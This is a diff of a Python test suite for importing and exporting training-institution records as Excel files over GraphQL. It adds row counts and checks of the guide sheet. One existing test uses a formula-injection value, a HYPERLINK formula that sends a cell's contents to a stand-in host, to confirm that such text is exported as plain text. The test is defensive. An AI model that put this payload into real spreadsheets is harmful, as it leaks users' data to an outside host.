@@ -16,7 +16,7 @@ from resolvers.institutions.importing import MAX_UPLOAD_BYTES
 from resolvers.institutions.template import DATA_SHEET, GUIDE_SHEET, HEADERS, TEMPLATE_MARK
 from tests.helpers import ID_NUMBER, credit_code, insert_institutions, register
 
-IMPORT = "mutation($file: Upload!) { importInstitutions(file: $file) { created updated errors { row column code message } } }"
+IMPORT = "mutation($file: Upload!) { importInstitutions(file: $file) { created updated rows errors { row column code message } } }"
 
 
 async def upload(http, token: str, content: bytes, filename: str = "institutions.xlsx") -> dict:
@@ -108,8 +108,11 @@ async def test_template_has_a_column_per_field_drop_downs_and_instructions(http,
     kind_column = sheet.cell(row=1, column=headers.index("机构类型 *") + 1).column_letter
     kind_values = [c.value for c in wb["_lists"]["A"] if c.value]
     assert kind_values == ["学科类", "非学科类"] and lists[kind_column] == "_lists!$A$1:$A$2"
-    guide = [r[0] for r in wb[GUIDE_SHEET].iter_rows(values_only=True)]
-    assert "办学许可证编号" in guide
+    guide = list(wb[GUIDE_SHEET].iter_rows(values_only=True))
+    # the instruction sheet names each column's part as the form does, never its code
+    parts = {r[0]: r[1] for r in guide[1:] if r and r[0] and r[0] in HEADERS}
+    assert parts["办学许可证编号"] == "2 办学资质" and parts["机构名称 *"] == "1 基本情况" and parts["通过消防验收"] == "5 办学条件"
+    assert set(parts.values()) == {"—", "1 基本情况", "2 办学资质", "3 办学情况", "4 中小学学科类培训情况", "5 办学条件"}
     assert wb["_template"]["A1"].value == TEMPLATE_MARK
 
 
@@ -119,7 +122,7 @@ async def test_import_creates_then_updates_by_credit_code(http, gql, demo, sessi
     # when
     first = await upload(http, county, content)
     # then
-    assert first == {"data": {"importInstitutions": {"created": 3, "updated": 0, "errors": []}}}
+    assert first == {"data": {"importInstitutions": {"created": 3, "updated": 0, "rows": 3, "errors": []}}}
     async with sessionmaker() as db:
         rows = {r.name: r for r in (await db.execute(sa.select(Institution))).scalars()}
     full = rows["导入2号培训学校"]
@@ -131,7 +134,7 @@ async def test_import_creates_then_updates_by_credit_code(http, gql, demo, sessi
     assert rows["导入3号培训学校"].subject_training_saved and rows["导入3号培训学校"].no_subject_training
     # a re-import of the same file updates rather than duplicates
     again = await upload(http, county, content)
-    assert again == {"data": {"importInstitutions": {"created": 0, "updated": 3, "errors": []}}}
+    assert again == {"data": {"importInstitutions": {"created": 0, "updated": 3, "rows": 3, "errors": []}}}
     listed = await gql("{ institutions { totalCount } }", token=county)
     assert listed["data"]["institutions"]["totalCount"] == 3
 
@@ -189,7 +192,6 @@ async def test_bad_files_get_clear_errors(http, gql, demo):
         (b"name,credit code\nx,y\n", "NOT_XLSX"),
         (b"PK\x03\x04" + b"\x00" * 100, "NOT_XLSX"),
         (other_bytes.getvalue(), "WRONG_TEMPLATE"),
-        (await template(http, county), "EMPTY_FILE"),
         (b"\x00" * (MAX_UPLOAD_BYTES + 1), "FILE_TOO_LARGE"),
     ]
     for content, code in cases:
@@ -197,6 +199,12 @@ async def test_bad_files_get_clear_errors(http, gql, demo):
         errors = result["data"]["importInstitutions"]["errors"]
         assert [e["code"] for e in errors] == [code], (code, errors)
         assert errors[0]["message"]
+
+
+async def test_the_template_as_downloaded_imports_as_no_rows(http, gql, demo):
+    county = await gql.login("edu-440106")
+    result = await upload(http, county, await template(http, county))
+    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 0, "rows": 0, "errors": []}}}
 
 
 async def test_only_the_county_desk_imports(http, gql, demo):
@@ -230,7 +238,7 @@ async def test_export_is_scoped_filtered_and_imports_back_unchanged(http, gql, d
         versions = dict((await db.execute(sa.select(Institution.credit_code, Institution.version))).all())
     response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {county}"})
     result = await upload(http, county, response.content)
-    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 2, "errors": []}}}
+    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 2, "rows": 2, "errors": []}}}
     async with sessionmaker() as db:
         after = {r.credit_code: {k: v for k, v in r.model_dump().items() if k not in ("updated_at", "version")} for r in (await db.execute(sa.select(Institution))).scalars()}
         versions_after = dict((await db.execute(sa.select(Institution.credit_code, Institution.version))).all())
@@ -285,7 +293,7 @@ async def test_text_that_looks_like_a_formula_is_exported_as_text_and_round_trip
         sheet_xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml
     result = await upload(http, county, response.content)
-    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 1, "errors": []}}}
+    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 1, "rows": 1, "errors": []}}}
     async with sessionmaker() as db:
         assert (await db.execute(sa.select(Institution.name))).scalar_one() == '=HYPERLINK("http://x.example/"&C2,"点此")'
 
